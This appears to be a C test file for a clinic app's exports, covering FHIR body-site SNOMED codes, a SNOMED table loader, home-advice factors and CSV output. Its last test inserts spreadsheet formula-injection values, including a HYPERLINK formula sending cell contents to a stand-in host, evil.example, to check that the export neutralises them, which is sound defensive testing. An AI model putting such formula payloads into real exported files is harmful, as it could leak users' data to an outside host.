    if (strchr(sget(c, "code"), ':')) *lat = sget(c, "code"); else *plain = sget(c, "code");
  }
}

Test(export, fhir_pain_region_carries_its_snomed_structure_and_laterality) {
  json_t *b = bundle_of(1);
  json_t *t = region_obs(b, "temple-l");
  cr_assert(t);
  const char *plain, *lat;
  sct_codings(json_object_get(t, "bodySite"), &plain, &lat);
  cr_expect_str_eq(sget(t, "bodySite.coding.0.system"), EXPORT_REGION_SYSTEM, "myomap's own coding stays first");
  cr_expect_str_eq(plain, "60911003");
  cr_expect_str_eq(sget(t, "bodySite.coding.1.display"), "Temporal bone");
  cr_expect_str_eq(lat, "60911003:272741003=7771000", "left: the Laterality attribute refined to 7771000");
  cr_expect_str_eq(sget(t, "bodySite.coding.2.display"), "Temporal bone, left");
  /* every drawn region matches the table */
  const body *bd = kb_body(k);
  const body_sct *tab = body_sct_builtin();
  cr_assert(tab);
  size_t i;
  json_t *e;
  int n = 0;
  json_array_foreach(json_object_get(b, "entry"), i, e) {
    json_t *r = json_object_get(e, "resource");
    const char *sys = sget(r, "bodySite.coding.0.system");
    if (!sys || strcmp(sys, EXPORT_REGION_SYSTEM)) continue;
    int ri = body_find(bd, sget(r, "bodySite.coding.0.code"));
    cr_assert_geq(ri, 0);
    sct_codings(json_object_get(r, "bodySite"), &plain, &lat);
    cr_expect_str_eq(plain, tab[ri].code, "%s", body_at(bd, ri)->id);
    cr_expect_not_null(lat, "%s is on one side", body_at(bd, ri)->id);
    n++;
  }
  cr_expect_eq(n, 3, "temple-l, neck-side-l and calf-r");
  json_decref(b);
}

Test(export, snomed_table_codes_every_region_and_a_sided_row_wins) {
  const body *bd = kb_body(k);
  const body_sct *tab = body_sct_builtin();
  cr_assert(tab, "kb/snomed.tsv is embedded and loads");
  for (int i = 0; i < body_n(bd); i++) {
    cr_expect(tab[i].code && strlen(tab[i].code) >= 6, "%s", body_at(bd, i)->id);
    cr_expect(kb_find_term(k, KB_SOURCE, tab[i].source) >= 0, "%s: source %s", body_at(bd, i)->id, tab[i].source);
  }
  int gl = body_find(bd, "groin-l"), gr = body_find(bd, "groin-r"), tl = body_find(bd, "temple-l"), tr = body_find(bd, "temple-r");
  cr_expect_str_eq(tab[gl].code, "85119005");
  cr_expect_str_eq(tab[gr].code, "37117007");
  cr_expect(tab[gl].sided && !tab[tl].sided);
  cr_expect_str_eq(tab[tl].code, tab[tr].code, "a base row codes both sides");
  /* errors name the line and say what would be right */
  static const struct { const char *tsv, *want; } bad[] = {
    {"region\tcode\tdisplay\tmatch\tsource\ntempel\t60911003\tTemporal bone\tunderlying\tdicom-ps316\n",
     "snomed.tsv:2: unknown region \"tempel\" (did you mean \"temple\"?)"},
    {"temple\t6091x003\tTemporal bone\tunderlying\tdicom-ps316\n", "snomed.tsv:1: \"6091x003\" is not a SNOMED CT id"},
    {"temple\t60911003\tTemporal bone\tnear\tdicom-ps316\n", "match must be exact, broader or underlying"},
    {"temple\t60911003\tTemporal bone\tunderlying\tdicom-ps316\ntemple\t69536005\tHead\tbroader\tdicom-ps316\n",
     "snomed.tsv:2: temple has a code already (line 1)"},
    {"temple\t60911003\tTemporal bone\tunderlying\tdicom-ps316\n", "has no SNOMED CT code"},
  };
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
    body_sct *t = NULL;
    char err[256] = "";
    cr_expect_eq(body_sct_load(bd, bad[i].tsv, strlen(bad[i].tsv), &t, err, sizeof err), -1, "%s", bad[i].tsv);
    cr_expect(strstr(err, bad[i].want) != NULL, "got \"%s\", wanted \"%s\"", err, bad[i].want);
  }
}

/* ---- what keeps it coming back ---- */

static const home_factor *factor(const home *h, const char *activity) {
  for (int i = 0; i < h->n_factors; i++)
    if (!strcmp(kb_term_at(k, KB_ACTIVITY, h->factors[i].activity)->id, activity)) return &h->factors[i];
  return NULL;
}

static plan_input one_point(const char *id, int side) {
  plan_input in;
  memset(&in, 0, sizeof in);
  in.points[0].tp = kb_find_tp(k, id);
  cr_assert_geq(in.points[0].tp, 0, "%s", id);
  in.points[0].side = side;
  in.n_points = 1;
  return in;
}

Test(export, home_context_is_the_latest_intake_up_to_the_date) {
  home_context c;
  cr_expect_eq(record_home_context(db, k, 1, "2026-11-22", &c), 1);
  cr_expect_eq(c.desk_hours, 8);
  cr_expect_eq(c.sleep_hours, 6.5);
  cr_expect_eq(c.n_activities, 0, "intake 1 names no activities");
  cr_expect_eq(record_home_context(db, k, 1, NULL, &c), 1);
  cr_expect_lt(c.desk_hours, 0, "the latest intake (2026-11-30) gave no hours");
  cr_expect_eq(record_home_context(db, k, 1, "2026-10-01", &c), 0, "no intake before October");
  cr_expect_eq(c.n_activities, 0);
  cr_expect_lt(c.sleep_hours, 0);
  /* the visit's intake: 8 desk hours and 6.5 h of sleep call for the desk and sleep advice */
  cr_expect_eq(record_home_context(db, k, 1, "2026-11-22", &c), 1);
  plan_input in = one_point("gastrocnemius-tp1", BODY_R);
  home h;
  home_build(k, &in, NULL, &h);
  home_perpetuating(k, &c, &h);
  const home_factor *desk = factor(&h, "desk-work"), *sleep = factor(&h, "sleeping-position");
  cr_assert(desk && sleep);
  cr_expect(desk->why & HOME_HOURS);
  cr_expect(sleep->why & HOME_HOURS);
  cr_expect(sleep->why & HOME_POINT, "gastrocnemius lists the sleeping position");
  c.sleep_hours = 8;
  c.desk_hours = 2;
  home_perpetuating(k, &c, &h);
  cr_expect_null(factor(&h, "desk-work"), "2 desk hours are below the advice's 4 and no calf point lists desk work");
  sleep = factor(&h, "sleeping-position");
  cr_expect(sleep && !(sleep->why & HOME_HOURS), "8 hours of sleep do not call for it; the point still does");
}

Test(export, home_reported_activities_come_first_with_the_muscles_they_keep_going) {
  plan_input in = one_point("upper-trapezius-tp1", BODY_L);
  home h;
  home_build(k, &in, NULL, &h);
  home_context c;
  home_context_init(&c);
  cr_expect_eq(home_context_activities(k, "running,phone-cradling, no-such-thing", &c), 1, "the unknown id is skipped");
  home_perpetuating(k, &c, &h);
  cr_assert_gt(h.n_factors, 1);
  cr_expect_str_eq(kb_term_at(k, KB_ACTIVITY, h.factors[0].activity)->id, "phone-cradling");
  cr_expect_eq(h.factors[0].why, HOME_REPORTED | HOME_POINT);
  cr_expect_eq(h.factors[0].n_muscles, 1);
  cr_expect_str_eq(kb_muscle_at(k, h.factors[0].muscles[0])->id, "upper-trapezius");
  cr_expect_null(factor(&h, "running"), "no corrective advice in kb/correct.kb for running");
  int unreported = 0;
  for (int i = 1; i < h.n_factors; i++) {
    cr_expect_eq(h.factors[i].why, HOME_POINT, "%d", i);
    unreported++;
    const kb_term *t = kb_term_at(k, KB_CORRECT, h.factors[i].correct);
    cr_expect_gt(t->n_sources, 0);
  }
  cr_expect_leq(unreported, HOME_MAX_UNREPORTED);
  /* JSON says the same */
  buf b;
  buf_init(&b);
  sheet_home_json(&b, k, &h);
  json_t *j = json_loads(b.data, 0, NULL);
  cr_assert(j, "%s", b.data);
  cr_expect_str_eq(sget(j, "perpetuating.advice.0.activity"), "phone-cradling");
  cr_expect_str_eq(sget(j, "perpetuating.advice.0.why.0"), "reported");
  cr_expect(strstr(sget(j, "perpetuating.advice.0.advice"), "headset") != NULL);
  cr_expect_str_eq(sget(j, "perpetuating.advice.0.sources.0.key"), "ts1");
  json_decref(j);
  buf_free(&b);
}

Test(export, csv_cells_never_formulas) {
  /* A client whose free text starts like a formula: a spreadsheet must show it, not run it. */
  sql("INSERT INTO client (id, name, birth, created, updated) VALUES (4, '=HYPERLINK(\"http://evil.example\",\"x\")',"
      " '1980-01-01', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')", NULL);
  static const char *const items[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd", "-2+3",
                                      "@SUM(A1:A9)", "\tTAB", "=1,2"};
  for (size_t i = 0; i < sizeof items / sizeof items[0]; i++)
    sql("INSERT INTO measure (client_id, date, kind, item, value, created)"
        " VALUES (4, '2026-10-01', 'psfs', $1, 3, '2026-10-01T08:00:00Z')", items[i], NULL);
  sql("INSERT INTO measure (client_id, date, kind, item, value, created)"
      " VALUES (4, '2026-10-02', 'rom', 'cervical:rotation-l', -5, '2026-10-01T08:00:00Z')", NULL);
  buf out;
  buf_init(&out);
  char err[256];
  cr_assert_eq(export_csv(db, k, 4, &out, err, sizeof err), 0, "%s", err);
  cr_expect(strstr(out.data, ",psfs,'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\"),3,") == NULL,
            "quoted cells start with a quote inside the quotes");
  cr_expect(strstr(out.data, ",psfs,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",3,"), "%s", out.data);
  cr_expect(strstr(out.data, ",psfs,'+1+cmd,3,"), "%s", out.data);
  cr_expect(strstr(out.data, ",psfs,'-2+3,3,"), "%s", out.data);
  cr_expect(strstr(out.data, ",psfs,'@SUM(A1:A9),3,"), "%s", out.data);
  cr_expect(strstr(out.data, ",psfs,'\tTAB,3,"), "%s", out.data);
  cr_expect(strstr(out.data, ",psfs,\"'=1,2\",3,"), "%s", out.data);
  cr_expect(strstr(out.data, ",rom,cervical:rotation-l,-5,"), "a negative number stays a number: %s", out.data);
  static char f[32][6][128];
  int ncols[32];
  int n = csv_parse(out.data, f, 32, ncols);
  for (int r = 0; r < n; r++)
    for (int c = 0; c < ncols[r]; c++)
      if (f[r][c][0] && strchr("=+@\t\r", f[r][c][0])) cr_expect(0, "record %d cell %d is a formula: %s", r, c, f[r][c]);
  buf_free(&out);
}
